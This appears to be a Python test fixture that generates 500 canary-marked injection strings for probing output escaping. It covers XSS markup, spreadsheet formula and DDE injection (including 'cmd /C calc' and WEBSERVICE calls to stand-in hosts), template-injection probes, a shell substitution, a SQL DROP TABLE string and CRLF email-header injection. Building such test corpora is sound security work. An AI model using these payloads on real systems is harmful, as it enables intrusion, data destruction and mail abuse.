"""Five hundred texts that try to be more than text: markup, formulas, templates, mail headers.

Each carries a mark of its own (`mk17q`), so that whoever reads a page, a mail or a file sees
where it ended up.
"""

from dataclasses import dataclass

PAYLOADS_PER_KIND = 125
COMPUTED = "1337"  # what 7*191 gives, should anything compute it

_MARKUP = (
    "<script>window.pwned='{m}'</script>",
    "<img src=x onerror=\"window.pwned='{m}'\">",
    "\"><svg onload=window.pwned='{m}'>",
    "'><b {m}=1>",
    "</textarea><script>window.pwned='{m}'</script>",
    "</title><iframe srcdoc='{m}'>",
    "<a href=\"javascript:window.pwned='{m}'\">{m}</a>",
    "\" autofocus onfocus=\"window.pwned='{m}'",
    "' style='background:url({m})",
    "<!--{m}--><![CDATA[{m}]]>",
    "<style>@import '{m}';</style>",
    "<base href='//{m}.example/'>",
    "<meta http-equiv=refresh content='0;url={m}'>",
    "<form action='//{m}.example'><button>",
    "<math><mi xlink:href='javascript:{m}'>",
    "&lt;script&gt;{m}&lt;/script&gt; &#60;b&#62;",
    "\u202e<script>{m}</script>\u202c",
    "<scr\u200bipt>{m}</script>",
    "</mark></p></main><script src=//{m}.example></script>",
    "<object data='data:text/html,{m}'></object>",
)
_FORMULAS = (
    '=HYPERLINK("http://{m}.example";"{m}")',
    "=cmd|' /C calc'!A0 {m}",
    "+1+1 {m}",
    "-2+3+{m}",
    "@SUM(1;{m})",
    "'=1+1 {m}",
    '=7*191&"{m}"',
    "\t=1+{m}",
    "\r=1+{m}",
    '=IMPORTXML("http://{m}.example")',
    "x;=1+1;{m}",
    '"=1+1";"{m}',
    "＝1+1 {m}",
    '=WEBSERVICE("http://{m}.example")',
    "{m}\n=1+1",
    "http://{m}.example/",
    "mailto:{m}@firma.example",
)
_TEMPLATES = (
    "{m}{{{{7*191}}}}",
    "{m}{{% set x = 7*191 %}}{{{{ x }}}}",
    "{m}${{7*191}}",
    "{m}#{{7*191}}",
    "{m}<%= 7*191 %>",
    "{m}{{0.__class__}}",
    "{m}{{need}} {{solution}} {{x}}",
    "{m}%(need)s %s %n %d",
    "{m}{{",
    "}}{m}{{!r}}",
    "{m}{{{{ frame.settings }}}}",
    "{m}{{{{ ''.__class__.__mro__ }}}}",
    "{m}$need ${{IFS}} `id` $(id)",
    "{m}' OR '1'='1'; DROP TABLE need;--",
    "{m}% _ \\ %% __",
    "{m}{{#if}}{{{{{{7*191}}}}}}",
)
_HEADERS = (
    "{m}\r\nBcc: opfer@{m}.example",
    "{m}\nBcc: opfer@{m}.example",
    "{m}\rX-{m}: 1",
    "{m}\r\n\r\n<b>{m}</b>",
    "{m}\r\n.\r\nQUIT",
    "{m}%0d%0aBcc:{m}@firma.example",
    "{m}\u2028Bcc: {m}@firma.example",
    "{m}\u0085Bcc: {m}@firma.example",
    "=?utf-8?q?{m}=0ABcc:_x@y.example?=",
    "{m}\nContent-Type: text/html\n\n<script>{m}</script>",
    "{m}\n--{m}--\n",
    '"{m}" <x@{m}.example>, y@z.example',
    "{m}\nSubject: {m}",
    "{m}\x0b\x0cTo: {m}@firma.example",
)


@dataclass(frozen=True, slots=True)
class Payload:
    """A text, and the mark in it."""

    mark: str
    text: str


def _of(kind: tuple[str, ...], first: int) -> list[Payload]:
    marks = [f"mk{number}q" for number in range(first, first + PAYLOADS_PER_KIND)]
    # What comes before a trick decides whether it stands at the beginning, after a word or a quote.
    before = ("", "Wir suchen ", 'Prüfung "', "a'", "ü" * 40 + " ", "1. ", "<", "&", "\U0001f600")
    return [
        Payload(mark, before[row // len(kind)] + kind[row % len(kind)].format(m=mark))
        for row, mark in enumerate(marks)
    ]


PAYLOADS = [
    payload
    for number, kind in enumerate((_MARKUP, _FORMULAS, _TEMPLATES, _HEADERS))
    for payload in _of(kind, number * PAYLOADS_PER_KIND)
]
